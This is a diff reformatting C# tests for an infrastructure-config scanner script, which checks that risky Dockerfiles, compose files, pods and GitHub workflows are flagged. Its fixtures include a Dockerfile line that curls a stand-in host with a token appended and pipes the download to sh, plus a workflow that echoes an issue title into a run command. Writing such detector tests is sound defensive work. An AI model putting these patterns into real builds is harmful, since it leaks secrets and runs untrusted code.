@@ -45,10 +45,16 @@ public sealed class ScanTests
     [InlineData("c.yml", "ports:\n  - \"5432:5432\"\n", "open to the world: ./c.yml:2: a database's port on every interface of the machine")]
     [InlineData("Dockerfile", "FROM a:1\n", "privileged: ./Dockerfile:1: no USER: it runs as root")]
     [InlineData("pod.yaml", "securityContext: {privileged: true}\n", "privileged: ./pod.yaml:1: privileged: true")]
-    [InlineData("Dockerfile", "FROM a:1\nRUN apt-get update && \\\n    curl https://x.example/$TOKEN \\\n    | sh\nUSER a\n", "downloads and runs: ./Dockerfile:2: what it gets goes straight to a shell")]
+    [InlineData(
+        "Dockerfile",
+        "FROM a:1\nRUN apt-get update && \\\n    curl https://x.example/$TOKEN \\\n    | sh\nUSER a\n",
+        "downloads and runs: ./Dockerfile:2: what it gets goes straight to a shell")]
     [InlineData("t.json", "{\"Resources\":{\n\"StorageEncrypted\": false}}\n", "data without protection: ./t.json:2: StorageEncrypted\": false")]
     [InlineData(".github/workflows/ci.yml", "on: pull_request_target\n", "stranger's code with secrets: ./.github/workflows/ci.yml:1: pull_request_target")]
-    [InlineData(".github/workflows/ci.yml", "- run: echo ${{ github.event.issue.title }}\n", "stranger's text in a command: ./.github/workflows/ci.yml:1: ${{ github.event.issue.title")]
+    [InlineData(
+        ".github/workflows/ci.yml",
+        "- run: echo ${{ github.event.issue.title }}\n",
+        "stranger's text in a command: ./.github/workflows/ci.yml:1: ${{ github.event.issue.title")]
     [InlineData("a b/x=1.yml", "image: a\n", "not pinned: ./a b/x=1.yml:1: image: a (no tag)")]
     public async Task Danger_IsTold(string file, string text, string found)
     {
@@ -61,11 +67,16 @@ public sealed class ScanTests
     [InlineData("Dockerfile", "FROM golang:1.25 AS build\nFROM scratch\nCOPY --from=build /a /a\nUSER 65532\n")]
     [InlineData("Dockerfile", "FROM node:24@sha256:00 AS Build\nUSER node\nFROM build\nFROM build AS last\n")]
     [InlineData("Dockerfile", "FROM --platform=$BUILDPLATFORM registry.example:5000/a/b:1\nUSER a\nENV NPM_TOKEN=$NPM_TOKEN\n")]
-    [InlineData("c.yml", "services:\n  a:\n    image: own/app\n    build: .\n  b:\n    build: .\n    image: own/app\n  c:\n    image: ${IMAGE}\n    environment:\n      DB_PASSWORD: ${DB_PASSWORD}\n      DB_PASSWORD_FILE: /run/secrets/db\n")]
+    [InlineData(
+        "c.yml",
+        "services:\n  a:\n    image: own/app\n    build: .\n  b:\n    build: .\n    image: own/app\n  c:\n    image: ${IMAGE}\n    environment:\n"
+        + "      DB_PASSWORD: ${DB_PASSWORD}\n      DB_PASSWORD_FILE: /run/secrets/db\n")]
     [InlineData("values.yaml", "image:\n  repository: nginx\n  tag: \"1.2\"\nexistingSecret: my-secret-1\nautomountServiceAccountToken: true\n")]
     [InlineData("pod.yaml", "env:\n  - name: DB_PASSWORD\n    valueFrom:\n      secretKeyRef: {name: a, key: b}\n  - name: MODE\n    value: fast\n")]
     [InlineData("main.tf", "  # acl = \"public-read\"\n  password = var.db_password\n  token    = \"${var.token}\"\n  acl = \"private\"\n")]
-    [InlineData(".github/workflows/ci.yml", "permissions:\n  id-token: write\nsteps:\n  - uses: actions/checkout@v5\n  - uses: ./local\n  - env:\n      TOKEN: ${{ secrets.TOKEN }}\n")]
+    [InlineData(
+        ".github/workflows/ci.yml",
+        "permissions:\n  id-token: write\nsteps:\n  - uses: actions/checkout@v5\n  - uses: ./local\n  - env:\n      TOKEN: ${{ secrets.TOKEN }}\n")]
     public async Task WhatIsInOrder_IsNotReported(string file, string text)
     {
         using var sandbox = new Sandbox().Write(file, text);
@@ -76,11 +87,13 @@ public sealed class ScanTests
     [Fact]
     public async Task FilesThatAreNone_AreNotRead()
     {
-        using var sandbox = new Sandbox().Write("a.json", "{\"password\":\"hunter2\"}").Write("node_modules/a/Dockerfile", "FROM a\n").Write("b.txt", "FROM a\n");
+        using var sandbox = new Sandbox().Write("a.json", "{\"password\":\"hunter2\"}")
+            .Write("node_modules/a/Dockerfile", "FROM a\n").Write("b.txt", "FROM a\n");
 
         Assert.Equal("No infrastructure files are in: .\n", (await ScanAsync(sandbox)).ExitedWith(2).Output);
         Assert.Equal("There is no file or folder none.\n", (await ScanAsync(sandbox, "none")).ExitedWith(2).Output);
     }
 
-    private static Task<AgentResult> ScanAsync(Sandbox sandbox, params string[] words) => BundledSkill.ScriptAsync(sandbox, "infrastructure-review", "scan.sh", words);
+    private static Task<AgentResult> ScanAsync(Sandbox sandbox, params string[] words) =>
+        BundledSkill.ScriptAsync(sandbox, "infrastructure-review", "scan.sh", words);
 }
